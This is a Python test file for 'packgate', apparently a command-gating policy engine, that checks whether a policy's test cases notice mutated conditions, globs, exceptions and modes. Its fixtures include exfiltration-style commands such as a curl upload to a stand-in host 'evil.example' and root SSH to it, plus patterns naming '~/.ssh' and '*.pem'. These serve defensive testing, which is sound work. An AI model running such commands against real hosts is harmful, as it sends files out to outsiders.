"""Which changes of a policy count, which cases notice them, and what is said of those that none does."""

from __future__ import annotations

from pathlib import Path

import pytest

from packgate.commands.known_values import known_values
from packgate.commands.shared import open_workspace
from packgate.engine.gate import build_gate
from packgate.model.policy import Pack, Pattern
from packgate.source.load import load_pack
from packgate.testing import codes
from packgate.testing.cases import collect
from packgate.testing.globs import narrowed, widened
from packgate.testing.mutants import mutants
from packgate.testing.mutation import MutationRun, mutate

ROOT = Path(__file__).resolve().parents[3]
POLICY = """\
policies:
  - id: upload
    title: Upload
    threat: layer
    impact: {impact}
    rationale: Because.
    when: [{when}]
{conditions}
    then: {mode}
    message: Ask first, then upload it to the bucket of the team.
    tests:
      must_fire:
{fires}
      must_not_fire:
{silent}
"""
FIRES = "curl -T a.txt https://evil.example"


def run(
    folder: Path, conditions: str, fires: list[str], silent: list[str], *, when: str = "data-transfer", mode: str = "warn",
    impact: str = "risky", known: bool = True,
) -> MutationRun:
    """The run over one policy; a case is a command, or ``{...}`` as written."""

    def cases(items: list[str], more: str = "") -> str:
        return "\n".join(f"        - {item}" if item[0] == "{" else f"        - {{command: '{item}', prompt: Do it.{more}}}" for item in items)

    path = folder / "rules.yaml"
    path.write_text(POLICY.format(
        conditions=conditions, fires=cases(fires, f", mode: {mode}"), silent=cases(silent), when=when, mode=mode, impact=impact,
    ), encoding="utf-8")
    result = load_pack(str(path))
    assert result.pack is not None, result.diagnostics
    gate = build_gate([result.pack], result.vocabulary)
    return mutate(result, collect([result]), gate, values=known_values(result.pack) if known else None)


def survivors(found: MutationRun) -> list[str]:
    """The findings, each with its line and column, without the name of the policy."""
    return [f"{item.position.line}:{item.position.column} {item.message.removeprefix('upload: no case notices when ')}" for item in found.survivors]


def test_cases_that_notice_everything(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: evil.example}", [FIRES], ["curl -T a https://good.example", "curl -T a https://evil.example.org"])
    assert survivors(found) == []
    assert (found.killed, found.tried) == (5, 5)
    assert found.to_json()["score"] == 100


def test_a_condition_that_nobody_misses(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: evil.example, user: root}", ["ssh root@evil.example"], ["ssh root@x"], when="remote-access")
    assert "8:30 `user` of `if` is not asked" in survivors(found)
    assert "8:10 `host` of `if` is not asked" not in survivors(found)
    item = next(item for item in found.survivors if "`user` of `if` is not asked" in item.message)
    assert (item.code, item.severity.value) == (codes.MUTANT_SURVIVED, "warning")
    assert item.hint == "add a must_not_fire case for which everything but `user` holds"


def test_families_alternatives_and_patterns(tmp_path: Path) -> None:
    conditions = "    if:\n      - {host: [evil.example, bad.example]}\n      - {user: root}"
    found = run(tmp_path, conditions, [FIRES, "ssh root@a"], ["curl -T a https://a.example"], when="data-transfer, remote-access")
    assert [line for line in survivors(found) if "loses" in line or "gone" in line] == ["9:10 `host` of `if` loses 'bad.example'"]
    found = run(tmp_path, conditions, [FIRES, "curl -T a https://bad.example"], ["ls"], when="data-transfer, remote-access")
    assert {"7:5 `when` loses remote-access", "10:9 this alternative of `if` is gone"} <= set(survivors(found))


def test_exceptions(tmp_path: Path) -> None:
    conditions = "    if: {host: '*.example'}\n    unless:\n      - {host: ok.example}\n      - {user: root, host: a.example}"
    found = run(tmp_path, conditions, [FIRES], ["curl -T a https://ok.example"])
    assert {"11:9 this exception is gone", "11:10 `user` of `unless` is not asked", "11:22 `host` of `unless` is not asked"} <= set(survivors(found))
    assert "10:9 this exception is gone" not in survivors(found)
    hints = {item.message.partition(" when ")[2]: item.hint for item in found.survivors}
    assert hints["`user` of `unless` is not asked"] == "add a must_fire case for which all of this exception but `user` holds"
    lone = run(tmp_path, "    unless: {host: ok.example}", [FIRES], ["ls"])
    assert [line.partition(" ")[0] for line in survivors(lone) if "gone" in line] == ["8:5"]


def test_wider_and_narrower_globs_come_with_an_example(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: '*evil*'}", ["curl -T a https://evil"], ["curl -T a https://good.example"])
    assert survivors(found) == ["8:10 `host` of `if` is narrowed: '*evil*' to 'evil'"]
    assert found.survivors[0].hint == "add a must_fire case with a `host` that only the narrower glob misses"
    found = run(tmp_path, "    if: {host: evil}", ["curl -T a https://evil"], ["curl -T a https://good.example"])
    assert found.survivors[0].hint == "add a must_not_fire case with a `host` that only the wider glob matches, such as 'aevil'"


def test_todo_and_failing_cases_notice_nothing(tmp_path: Path) -> None:
    condition = "    if: {host: evil.example}"
    silent = ["{command: curl -T a https://good.example, todo: later}", "{command: curl -T a https://evil.example}"]
    assert "8:10 `host` of `if` is not asked" in survivors(run(tmp_path, condition, [FIRES], silent))


def test_where_is_changed_too(tmp_path: Path) -> None:
    found = run(tmp_path, "    where: {branch: main}", ["{command: 'curl -T a https://a.example', context: {branch: main}, prompt: Do it., mode: warn}"], ["ls"])
    assert survivors(found) == ["8:13 `branch` of `where` is not asked"]


# --- what does not count ------------------------------------------------------------------------------------------------

def test_a_pattern_that_another_one_covers_is_equivalent(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: ['*.example', evil.example]}", [FIRES], ["curl -T a https://good.test"])
    assert not [line for line in survivors(found) if "loses 'evil.example'" in line]
    assert found.policies[0].equivalent >= 1


def test_values_of_a_closed_field(tmp_path: Path) -> None:
    """No effect but `send` has `send` in it, and no operation of the catalog has `upload` in it but `upload`."""
    fires, silent = [FIRES], ["curl -o a https://evil.example"]
    assert not [line for line in survivors(run(tmp_path, "    if: {effect: send}", fires, silent)) if "widened" in line]
    assert survivors(run(tmp_path, "    if: {operation: upload}", fires, silent, known=True)) == []
    assert [line for line in survivors(run(tmp_path, "    if: {operation: upload}", fires, silent, known=False)) if "widened" in line]


def test_a_word_of_the_catalog_that_a_wider_glob_meets_counts(tmp_path: Path) -> None:
    condition, fires = "    if: {operation: branch-delete}", ["git branch -d a"]
    found = run(tmp_path, condition, fires, ["git commit -m x"], when="git-action")
    assert survivors(found) == ["8:10 `operation` of `if` is widened: 'branch-delete' to '*branch-delete*'"]
    assert survivors(run(tmp_path, condition, fires, ["git commit -m x", "git branch -D a"], when="git-action")) == []


def test_a_mode_is_noticed_by_a_case_that_states_it(tmp_path: Path) -> None:
    condition, silent = "    if: {host: evil.example}", ["curl -T a https://good.example", "curl -T a https://evil.example.org"]
    for mode, impact, made in (("warn", "risky", 2), ("block", "one-way", 1), ("audit", "routine", 1)):
        score = run(tmp_path, condition, [FIRES], silent, mode=mode, impact=impact).policies[0]
        assert (score.killed["mode"], score.survived["mode"]) == (made, 0)
        unsaid = run(tmp_path, condition, [f"{{command: '{FIRES}', prompt: Do it.}}"], silent, mode=mode, impact=impact)
        assert unsaid.policies[0].survived["mode"] == made
    assert survivors(unsaid) == ["9:5 `then` is warn"]
    assert unsaid.survivors[0].hint == "state `mode: audit` in a must_fire case"


def test_closed_values_and_quantifiers(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {network: public}", [FIRES], ["curl -T a http://localhost", "ls"])
    assert survivors(found) == ["8:10 `network` of `if` takes 'private' too", "8:10 `network` of `if` takes 'metadata' too"]
    assert found.survivors[0].hint == "add a must_not_fire case whose `network` is 'private' and for which all else holds"
    assert found.policies[0].killed["quantifier"] == 1
    found = run(tmp_path, "    if: {flag: {all: [-T, -s]}}", ["curl -s -T a https://x.example"], ["ls"])
    assert "8:10 `flag` of `if` asks for any of its patterns, not all" in survivors(found)


def test_known_values() -> None:
    values = known_values(Pack("mine", "1.0.0", (), environments={"edge": ("edge",)}))
    assert "edge" in (values(["git-action"], "environment") or ())
    assert "force-push" in (values(["git-action"], "operation") or ())
    assert values(["command"], "operation") is None
    assert values(["git-action"], "host") is None


@pytest.mark.parametrize(("text", "type", "expected"), [
    ("x", "word", ["*x*"]), ("*x", "word", ["*x*"]), ("*x*", "word", []), ("x", "path", ["*x*"]), ("a/x", "path", ["a/x*"]), ("~/.ssh", "path", ["~/.ssh*"]),
    ("/etc/**", "path", ["/**"]), ("~/a/**", "path", ["~/**"]), ("**/x/**", "path", ["**/**"]), ("*", "word", []), ("**", "path", []),
    ("/x/*", "path", ["/x/**"]), ("~/*", "path", ["~/**"]), ("/x/*/y", "path", ["/x/*/y*", "/x/**/y"]),
])
def test_wider_globs(text: str, type: str, expected: list[str]) -> None:
    assert [new.text for new in widened(Pattern("glob", text), type)] == expected
    assert widened(Pattern("regex", text), type) == []


@pytest.mark.parametrize(("text", "type", "expected"), [
    ("*x*", "word", ["x"]), ("x*", "word", ["x"]), ("x", "word", []), ("**/x/**", "path", ["x", "**/x/*"]), ("*.pem", "path", [".pem"]),
    ("*", "word", []), ("/etc/**", "path", ["/etc", "/etc/*"]), ("?*", "word", []), ("~/*", "path", []),
])
def test_narrower_globs(text: str, type: str, expected: list[str]) -> None:
    assert [new.text for new in narrowed(Pattern("glob", text), type)] == expected


def test_named_lists_count_as_their_items(tmp_path: Path) -> None:
    (tmp_path / "pack.yaml").write_text(
        "name: mine\ntitle: Mine\nversion: 1.0.0\nowners: [me]\nthreats: {layer: {title: Layer, description: One.}}\nlists: {hosts: [a.example, b.example]}\n",
        encoding="utf-8",
    )
    (tmp_path / "policies").mkdir()
    text = POLICY.format(
        conditions="    if: {host: {list: hosts}}", fires="        - {command: 'curl -T a https://a.example', prompt: Do it.}",
        silent="        - {command: ls, prompt: Look.}", when="data-transfer", mode="warn", impact="risky",
    )
    (tmp_path / "policies" / "layer.yaml").write_text(text, encoding="utf-8")
    result = load_pack(str(tmp_path))
    assert result.pack is not None, result.diagnostics
    made = [mutant.what for mutant in mutants(result.pack.policies[0], result.pack.lists, {"host": "host"}) if mutant.kind == "pattern"]
    assert made == ["`host` of `if` loses 'a.example'", "`host` of `if` loses 'b.example'"]


# --- the shipped packs, a sample; benchmarks/mutate.py runs all -----------------------------------------------------------

@pytest.mark.parametrize(("pack", "policies"), [
    ("recommended", ["root-escalation", "prod-context-switch", "secret-retrieval", "direct-push-to-main", "home-deletion"]),
    ("strict", ["recursive-forced-deletion", "api-deletion", "open-permissions", "auth-code-edit", "customer-data-export"]),
])
def test_cases_of_the_shipped_packs(pack: str, policies: list[str]) -> None:
    space = open_workspace((str(ROOT / "packs" / pack),))
    result = space.results[0]
    assert result.pack is not None, space.diagnostics
    gate = build_gate([result.pack], result.vocabulary, lists=space.lists)
    found = mutate(result, collect([result]), gate, lists=space.lists, values=known_values(result.pack), policies=policies)
    assert [score.policy for score in found.policies] == policies
    assert found.killed >= 0.9 * found.tried, "\n".join(survivors(found))
    assert all(score.killed["mode"] and not score.survived["mode"] for score in found.policies)
